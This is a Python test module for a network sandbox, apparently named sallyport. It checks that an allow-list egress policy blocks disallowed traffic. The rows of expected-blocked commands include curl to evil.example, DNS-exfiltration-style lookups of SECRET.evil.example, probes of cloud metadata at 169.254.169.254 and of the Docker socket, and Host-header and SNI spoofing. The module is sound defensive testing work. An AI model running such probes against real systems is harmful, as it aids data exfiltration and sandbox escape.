# SPDX-License-Identifier: GPL-2.0-or-later
"""The rows of the demonstration, and how they are run and printed."""

import dataclasses
import re
import textwrap
from typing import Callable

from lib import zone
from lib.bubble import TMP
from lib.commands import CA, dig, probe

POLICY = ("good.example", "good.example:80", "shared-a.example", "v6.example", "ssh.example:22",
          "db.example:5432", "udp/ntp.example:123", f"{zone.v4(70)}:{zone.PORT_ECHO}",
          f"host:{zone.PORT_LOOPBACK_HTTP}")

INTRODUCTION = f"""\
A small internet of network namespaces; no root and no real network in the jail. Allowed:

{textwrap.fill("  ".join(POLICY), 96, initial_indent="    ", subsequent_indent="    ")}

"Seen" is told by the servers, the packets on the cable and the DNS server's log, not only by the
program in the jail.
"""

CURL_ERRORS = {6: "no such name", 7: "refused at once", 22: "HTTP 403", 28: "hung", 35: "TLS alert",
               52: "closed", 56: "reset"}
REFUSALS = {"permission denied": "not permitted"}


@dataclasses.dataclass
class Row:
    tried: str
    command: list
    expected: str
    see: Callable  # of the result: what the program saw
    asked: str = ""  # also count how often upstream was asked for this name


def page(result):
    found = re.search(r"site=(\S+)", result.out)
    return f"page of {found[1]}" if found else ended(result)


def ended(result):
    return CURL_ERRORS.get(result.status, str(result.status))


def dns(result):
    status = re.search(r"status: (\w+)", result.out)
    answers = re.findall(r"^\S+\s+\d+\s+IN\s+(A|AAAA|TXT)\s", result.out, re.M)
    return f"{status[1] if status else 'no reply'}, {len(answers)} records"


def text(result):
    return result.out.strip().split("\n")[0] if result.status == 0 else refusal(result)


def refusal(result):
    """Of a failed program: quick and definite, or not."""
    if result.seconds > 2:
        return "hung"
    said = result.out + result.err
    found = re.search(r"refused|cannot resolve|not permitted|permission denied|unreachable", said,
                      re.I)
    return REFUSALS.get(found[0].lower(), found[0].lower()) if found else f"said {said!r}"


def curl(*words):
    return ["curl", "-sS", "-f", "--max-time", "4", "--noproxy", "*", *words]


def connect_to(name, other):
    """curl: ask for `name` on the connection that was made to `other`."""
    return ["--connect-to", f"{name}:443:{other}:443"]


def openssl(name, server_name):
    return ["bash", "-c", f"echo | timeout 4 openssl s_client -brief -CAfile {CA} "
            f"-connect {name}:443 -servername {server_name} 2>&1 | "
            "grep -iEo 'alert|verification: ok'"]


ROWS = (
    ("What the policy names", (
        Row("curl https://good.example", curl("https://good.example/"), "page of good.example",
            page),
        Row("curl http://good.example", curl("http://good.example/"), "page of good.example", page),
        Row("curl https://v6.example (no IPv4 at all)", curl("https://v6.example/"),
            "page of v6.example", page),
        Row("curl https://shared-a.example", curl("https://shared-a.example/"),
            "page of shared-a.example", page),
        Row("openssl s_client good.example", openssl("good.example", "good.example"),
            "Verification: OK", text),
        Row("bash /dev/tcp/ssh.example/22", ["bash", "-c", "head -n1 </dev/tcp/ssh.example/22"],
            "SSH-2.0-testnet", text),
        Row("nc db.example 5432", ["bash", "-c", "echo hello | nc -N -w3 db.example 5432"],
            "echo hello", text),
        Row("python3, UDP to ntp.example:123", probe("udp", "ntp.example", 123, "time?"),
            "echo time?", text),
        Row("python3, TCP to 203.0.113.70:7007",
            probe("tcp", zone.v4(70), zone.PORT_ECHO, "by address"), "by address", text),
        Row("curl http://host.sallyport.internal:18080",
            curl("http://host.sallyport.internal:18080/"),
            "page of host.sallyport.internal:18080", page),
    )),
    ("What it does not", (
        Row("curl https://evil.example", curl("https://evil.example/"), "no such name", page,
            "evil.example"),
        Row("curl http://SECRET.evil.example", curl("http://SECRET.evil.example/"), "no such name",
            page, "secret.evil.example"),
        Row("curl https://203.0.113.66 (raw address)", curl("-k", "https://203.0.113.66/"),
            "TLS alert", page),
        Row("curl https://[2001:db8:113::66]", curl("-k", "https://[2001:db8:113::66]/"),
            "TLS alert", page),
        Row("nc good.example 8080 (other port)", ["nc", "-w3", "-v", "good.example", "8080"],
            "refused", refusal),
        Row("curl http://198.51.100.1:18081 (this machine)", curl("http://198.51.100.1:18081/"),
            "refused at once", page),
        Row("curl http://169.254.169.254 (cloud metadata)", curl("http://169.254.169.254/"),
            "HTTP 403", page),
        Row("python3, QUIC to good.example", probe("udp", "good.example", 443, "quic?"), "refused",
            refusal),
        Row("python3, ICMP echo to 203.0.113.10", probe("ping", zone.v4(10), "ping?"),
            "not permitted", refusal),
        Row("curl --unix-socket /run/docker.sock",
            curl("--unix-socket", "/run/docker.sock", "http://d/"), "refused at once", page),
    )),
    ("What only looks allowed", (
        Row("shared-b over shared-a's address",
            curl(*connect_to("shared-b.example", "shared-a.example"),
                 "https://shared-b.example/"), "TLS alert", page),
        Row("openssl good.example -servername evil", openssl("good.example", "evil.example"),
            "alert", text),
        Row("curl -H 'Host: evil.example' http://good…",
            curl("-H", "Host: evil.example", "http://good.example/"), "HTTP 403", page),
        Row("second request on it, for evil.example",
            curl("http://good.example/", "--next", "-sSf", "-o", f"{TMP}/scratch/second", "-H",
                 "Host: evil.example", "http://good.example/"), "HTTP 403", ended),
    )),
    ("DNS", (
        Row("dig good.example", dig("good.example"), "NOERROR, 1 records", dns),
        Row("dig evil.example", dig("evil.example"), "NXDOMAIN, 0 records", dns, "evil.example"),
        Row("dig @203.0.113.88 evil.example (any server)", dig("@203.0.113.88", "evil.example"),
            "NXDOMAIN, 0 records", dns, "evil.example"),
        Row("dig +tcp @203.0.113.88 secret.evil.example",
            dig("+tcp", "@203.0.113.88",
                "secret.evil.example"), "NXDOMAIN, 0 records", dns, "secret.evil.example"),
        Row("dig TXT good.example", dig("TXT", "good.example"), "NOERROR, 0 records", dns),
    )),
)

# Where packets of the jail's making may go: the resolver, and what POLICY allows.
ALLOWED = (("udp", zone.DNS4, 53), ("tcp", zone.DNS4, 53),
           *(("tcp", a, p) for a in zone.both(10) for p in (443, 80)),
           *(("tcp", a, 443) for a in [*zone.both(20), zone.v6(16)]),
           *(("tcp", a, 22) for a in zone.both(22)), *(("tcp", a, 5432) for a in zone.both(54)),
           *(("udp", a, 123) for a in zone.both(123)), ("tcp", zone.v4(70), zone.PORT_ECHO))


def flags():
    return [word for d in POLICY for word in ("--allow", d)]


def run(testbed, row):
    """(expected, seen) of one row."""
    marks = testbed.marks()
    result = testbed.jail(*flags(), "--quiet")(row.command)
    expected, seen = row.expected, row.see(result)
    leaks = testbed.leaks(marks, ALLOWED)
    if leaks:
        seen += f"; {len(leaks)} packets left: {leaks[0]['proto']} to {leaks[0]['dst']}"
    if row.asked:
        expected += "; upstream asked 0 times"
        n = sum(q["name"].lower() == row.asked for q in testbed.asked(marks))
        seen += f"; upstream asked {n} times"
    return expected, seen


def show(testbed):
    differ = 0
    for title, rows in ROWS:
        print(f"{title:46.46} {'expected':44} seen")
        for row in rows:
            expected, seen = run(testbed, row)
            differ += expected != seen
            mark = "" if expected == seen else "   <-- differs"
            print(f"  {row.tried:44.44} {expected:44} {seen}{mark}", flush=True)
        print()
    differ += not report(testbed)
    print("Everything as expected." if not differ else f"{differ} differ.")
    return 1 if differ else 0


def report(testbed):
    """One run as a user sees it, with the closing report."""
    script = ("curl -sS -o page https://good.example/; "
              "for i in 1 2 3; do curl -sS https://evil.example/; done; "
              "curl -sS http://203.0.113.66:8080/; dig +short example.test >dig; exit 3")
    print("$ sallyport run --allow good.example -- bash -c '...'")
    words = testbed.words(["--allow", "good.example"], ["bash", "-c", script])
    result = testbed.run(words)
    print(textwrap.indent(result.err, "    ") + f"    [exit status {result.status}]\n")
    wanted = ("--allow evil.example", f"--allow {zone.v4(66)}:8080")
    return result.status == 3 and all(w in result.err for w in wanted)
